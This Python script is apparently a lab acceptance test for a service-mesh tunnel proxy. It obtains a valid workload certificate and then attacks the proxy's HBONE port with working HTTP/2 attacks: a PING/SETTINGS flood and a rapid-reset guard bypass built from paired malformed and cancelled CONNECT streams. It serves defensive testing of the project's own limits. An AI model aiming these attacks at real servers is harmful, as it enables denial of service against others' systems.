"""An HBONE peer with a valid certificate that abuses HTTP/2; prints what it got as JSON.

Run inside a node's namespace (the CA is reachable only from the lab's networks):
it asks the lab's CA for a workload certificate as that node's agent would, then
attacks a pod's 15008 in one of two ways (issue 10, acceptance 2):

* ``flood``: PING and empty SETTINGS frames, never reading, until the proxy stops
  taking them (or a bound in bytes and time); then reads to the GOAWAY;
* ``rapid-reset``: one malformed CONNECT (answered 400) per CONNECT that is then
  reset, the review's bypass of the rapid-reset guard; then reads to the GOAWAY.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
from h2.errors import ErrorCodes

from identity.ca_client import request_certificate
from identity.spiffe import Identity
from tunnel import tls

_HEADER = struct.Struct(">BHBBL")
PING, SETTINGS, GOAWAY = 0x6, 0x4, 0x7
FLOOD_LIMIT = 64 * 1024 * 1024
FLOOD_SECONDS = 10.0


def _frame(kind: int, payload: bytes = b"") -> bytes:
    return _HEADER.pack(len(payload) >> 16, len(payload) & 0xFFFF, kind, 0, 0) + payload


def _flood(sock: ssl.SSLSocket) -> int:
    chunk = (_frame(PING, b"12345678") + _frame(SETTINGS)) * (64 * 1024 // 26)
    sock.settimeout(1.0)
    sent, deadline = 0, time.monotonic() + FLOOD_SECONDS
    try:
        while sent < FLOOD_LIMIT and time.monotonic() < deadline:
            sock.sendall(chunk)
            sent += len(chunk)
    except OSError:  # timed out (the proxy stopped reading) or closed
        pass
    return sent


def _rapid_reset(sock: ssl.SSLSocket, target: str) -> int:
    conn = h2.connection.H2Connection(h2.config.H2Configuration(
        client_side=True, header_encoding=None, validate_inbound_headers=False))
    conn.initiate_connection()
    conn.remote_settings.max_concurrent_streams = 1_000_000
    sent = 0
    for i in range(2_000):
        bad, good = 1 + 4 * i, 3 + 4 * i
        conn.send_headers(bad, [(":method", "CONNECT"), (":authority", "x")], end_stream=True)
        conn.send_headers(good, [(":method", "CONNECT"), (":authority", target)])
        conn.send_data(good, b"x")
        conn.reset_stream(good, ErrorCodes.CANCEL)
        data = conn.data_to_send()
        try:
            sock.sendall(data)
        except OSError:
            break
        sent += len(data)
    return sent


def _goaway(sock: ssl.SSLSocket, timeout: float = 15.0) -> int | None:
    sock.settimeout(timeout)
    buffer = bytearray()
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            data = sock.recv(65536)
        except OSError:
            return None
        if not data:
            return None
        buffer += data
        while len(buffer) >= 9:
            hi, lo, kind, _flags, _sid = _HEADER.unpack_from(buffer)
            length = (hi << 16) | lo
            if len(buffer) < 9 + length:
                break
            payload = bytes(buffer[9:9 + length])
            del buffer[:9 + length]
            if kind == GOAWAY:
                return int(struct.unpack(">LL", payload[:8])[1])
    return None


async def _certificate(args: argparse.Namespace):  # type: ignore[no-untyped-def]
    with open(args.ca_root, "rb") as root:
        return await request_certificate(ca_url=args.ca_url, ca_root_pem=root.read(),
                                         token=args.token, identity=Identity.parse(args.identity))


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--ca-url", required=True)
    parser.add_argument("--ca-root", required=True)
    parser.add_argument("--token", required=True)
    parser.add_argument("--identity", required=True)
    parser.add_argument("--target", required=True, help="pod-ip:15008")
    parser.add_argument("--attack", choices=("flood", "rapid-reset"), required=True)
    args = parser.parse_args()
    bundle = asyncio.run(_certificate(args))
    host, port = args.target.rsplit(":", 1)
    raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # we read nothing anyway
    raw.settimeout(10)
    raw.connect((host, int(port)))
    sock = tls.client_context(bundle).wrap_socket(raw)
    started = time.monotonic()
    if args.attack == "flood":
        sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(SETTINGS))
        sent = _flood(sock)
    else:  # h2 sends the preface itself
        sent = _rapid_reset(sock, f"{host}:8080")
    code = _goaway(sock)
    sock.close()
    print(json.dumps({"sent": sent, "goaway": code, "seconds": time.monotonic() - started}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
